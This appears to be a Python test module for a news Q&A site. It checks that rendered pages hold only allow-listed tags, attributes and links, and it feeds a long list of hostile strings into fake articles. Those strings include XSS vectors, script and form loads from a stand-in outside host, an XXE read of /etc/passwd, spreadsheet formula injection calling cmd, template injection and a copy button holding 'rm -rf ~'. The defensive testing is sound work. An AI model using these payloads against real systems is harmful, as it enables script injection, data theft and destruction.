"""What a page of ours may hold, whatever articles and questions say; and texts that try more."""

from __future__ import annotations

import re
from datetime import date
from html.parser import HTMLParser

from brief_qa.domain import Article


class Reading(HTMLParser):
    """What a browser would make of some HTML: tags, attributes, text."""

    def __init__(self, html: str) -> None:
        """Read the HTML."""
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the tag."""
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        """Keep the text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """No comment is ever written."""
        raise AssertionError(data)

    def all(self, tag: str, of_class: str = "") -> list[dict[str, str]]:
        """The attributes of all tags of that name and class."""
        return [
            attributes
            for name, attributes in self.tags
            if name == tag and of_class in ("", *attributes.get("class", "").split())
        ]


TAGS = set(
    "a article aside b bdi body button dd details div dl dt form h1 h2 h3 h4 head header html input"
    " label li link main mark meta nav ol option p script section select span strong summary time"
    " title ul".split()
)
ATTRIBUTES = {
    *(
        "aria-busy",
        "aria-hidden",
        "aria-label",
        "aria-live",
        "charset",
        "class",
        "content",
        "datetime",
        "dir",
    ),
    *("href", "id", "lang", "name", "rel", "role", "tabindex", "target", "title", "type"),
    *(
        "data-exchange",
        "data-how",
        "data-copy",
        "data-event",
        "data-here",
        "data-kept",
        "data-place",
        "data-reason",
        "data-source",
        "data-verdict",
        "aria-current",
        "download",
        "for",
        "placeholder",
        "autofocus",
    ),
    *("accept", "aria-describedby", "data-limit", "enctype", "hidden", "multiple", "required"),
    *("action", "autocomplete", "defer", "method", "open", "selected", "src", "start", "style"),
    "value",
}


LEADS_TO = (
    *("#", "./", "article?", "recherche", "archive", "connexion", "page/", "favicon"),
    *("https://", "http://"),
)


def assert_harmless(html: str) -> Reading:
    """Only our own tags and attributes, and links that lead to articles and sources."""
    reading = Reading(html)
    for tag, attributes in reading.tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        assert attributes.get("href", "#").startswith(LEADS_TO)
        assert attributes.get("src", "page/").startswith("page/")
        assert re.fullmatch(r"--part:[01]\.\d+", attributes.get("style", "--part:0.0"))
        if tag == "a" and "target" in attributes:
            assert attributes["rel"] == "noopener noreferrer nofollow"
    return reading


_SETS = "window.hurt=1"
_ELSEWHERE = "https://ailleurs.example"

HOSTILE = (
    # scripts, and what runs one
    f"<script>{_SETS}</script>",
    f"<SCRIPT SRC={_ELSEWHERE}/x.js></SCRIPT>",
    f"<scr<script>ipt>{_SETS}</scr</script>ipt>",
    f"</script><script>{_SETS}</script>",
    f"<img src=x onerror={_SETS}>",
    f"<svg onload={_SETS}><a xlink:href=javascript:{_SETS}>x</a></svg>",
    f"<svg><animate onbegin={_SETS} attributeName=x dur=1s></svg>",
    f"<svg><script href=data:,{_SETS} /></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg '
    f'onload={_SETS}></svg>#x">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SETS}></style></mglyph></table>",
    f"<math href=javascript:{_SETS}>clic</math>",
    f"<details open ontoggle={_SETS}>",
    f"<input autofocus onfocus={_SETS}>",
    f"<video><source onerror={_SETS}></video>",
    f"<body onpageshow={_SETS}>",
    f"<marquee onstart={_SETS}>",
    f"<x contenteditable onblur={_SETS}>x</x>",
    f"<button formaction=javascript:{_SETS}>Envoyer</button>",
    # out of an attribute
    f'"><img src=x onerror={_SETS}>',
    f"'><img src=x onerror={_SETS}>",
    f"' onmouseover='{_SETS}",
    f'" autofocus onfocus="{_SETS}',
    f"`onfocus={_SETS} autofocus",
    f'x"\n\tonclick\x0c=\n{_SETS} "',
    f"</textarea></title></style></noscript><img src=x onerror={_SETS}>",
    "</p></div></section><iframe srcdoc='<script>parent.hurt=1</script>'>",
    f'<noscript><p title="</noscript><img src=x onerror={_SETS}>">',
    # pages in the page, and away from it
    f"<iframe src=javascript:{_SETS}></iframe>",
    f"<iframe src={_ELSEWHERE}></iframe>",
    f"<object data=data:text/html,<script>{_SETS}</script>></object>",
    f"<embed src={_ELSEWHERE}/x.svg>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<base href={_ELSEWHERE}/>",
    f"<form action={_ELSEWHERE}><input name=q><button>Connexion</button></form>",
    f"<link rel=stylesheet href={_ELSEWHERE}/x.css>",
    f"<link rel=prefetch href={_ELSEWHERE}>",
    f"<img src={_ELSEWHERE}/x.png srcset='{_ELSEWHERE}/y.png 2x' loading=eager>",
    f"<portal src={_ELSEWHERE}></portal>",
    # styles
    "</title><style>*{display:none}</style>",
    f"<style>@import '{_ELSEWHERE}/x.css';</style>",
    f'<p style="background:url({_ELSEWHERE}/x);width:expression({_SETS})">',
    "<p style='position:fixed;inset:0;background:red;z-index:9'>Cliquez</p>",
    # comments, sections, entities
    "<!-- <b>",
    "--><b>--!><!--[if IE]><script>",
    "]]><![CDATA[<b>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    f"&lt;script&gt;{_SETS}&lt;/script&gt; &#60;script&#62;",
    f"&lt;img src=x onerror={_SETS}&gt; &amp;lt;b&amp;gt; &#x3C;b&#x3E; &bogus; &#0; &#xD800;",
    f"javascript&colon;{_SETS} java&Tab;script:{_SETS}",
    # addresses
    f"javascript:{_SETS}",
    f"JaVaScRiPt\t:{_SETS}//https://journal.example",
    f"\x01javascript:{_SETS}",
    f"data:text/html,<script>{_SETS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+",
    f"vbscript:{_SETS}",
    "//ailleurs.example/x",
    "https://journal.example@ailleurs.example/%0d%0aSet-Cookie:x=1",
    f"https://journal.example/#:~:text=</mark><script>{_SETS}</script>",
    "https://аррӏе.com/ https://xn--80ak6aa92e.com/",
    f'https://journal.example/" onclick="{_SETS}',
    # other languages: Markdown, templates, files
    f"[lien](javascript:{_SETS}) ![image]({_ELSEWHERE}/x.png)",
    f"[x]: javascript:{_SETS}\n\n```html\n<script>{_SETS}</script>\n```\n\n<{_ELSEWHERE}>",
    f"$$\\href{{javascript:{_SETS}}}{{x}}$$ \\(\\unicode{{<img src=x onerror={_SETS}>}}\\)",
    f"${{{_SETS}}} {{{{constructor.constructor('{_SETS}')()}}}} {{{{{{value}}}}}} @children",
    f"<%= {_SETS} %> #{{{_SETS}}} {{% raw %}} {{{{ self.__init__.__globals__ }}}}",
    f"<gradio-app src={_ELSEWHERE}></gradio-app><div class='gradio-container' id=transcript>",
    "<button class='otherwise' data-exchange='1' data-how='as-written'>Encore</button>",
    "<button class='copy' data-copy='rm -rf ~'>Copier</button><a class=read href=#results>x</a>",
    '=HYPERLINK("https://ailleurs.example";"clic")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0;=1+1,-2+3",
    '＝1+1;"=1+1"\t=1+1',
    "}, title = {faux}, @article{faux, \\input{/etc/passwd} % $x$",
    # characters
    "\u202etxt.exe\u202c \u2066abc\u2069 zéro\u200blargeur \U000e0041",
    "\u2067\u202b\u061cمرحبا <b>العالم</b>",
    "\x00\x08\x1b[31m\x1b]0;titre\x07\x7f",
    "\ud800 seule \udc00",
    "<\u0131mg src=x> ＜script＞ ‹script› \u2028\u2029",
    "Z\u0351\u0343\u036f" * 60,
    "mot" * 1_000,
    "<table>" * 50,
    "<table><tr><td>" * 200,
    "<b><i><u>" * 100 + "sans fin",
    "[1] [2] [999] « » [[1]]",
)


def traps() -> list[Article]:
    """An article for each hostile text, which stands in every field; so many that all are told."""
    return [
        Article(
            id=f"{number} {payload[:150]}",
            title=f"Piège numéro {number} {payload[:300]}",
            body=f"Le piège numéro {number} a été posé par Luc Martin, farceur de la commune. "
            f"{payload}\n\n{payload}\n\nLa fanfare a joué {payload} sous la pluie.",
            url=payload if number % 2 else f"https://journal.example/{payload}",
            source=payload,
            section=payload,
            authors=(payload, f"Auteur {number}"),
            published=date(2025, 1 + number % 12, 1 + number % 28),
            date_origin="field",
        )
        for number, payload in enumerate(HOSTILE)
    ]
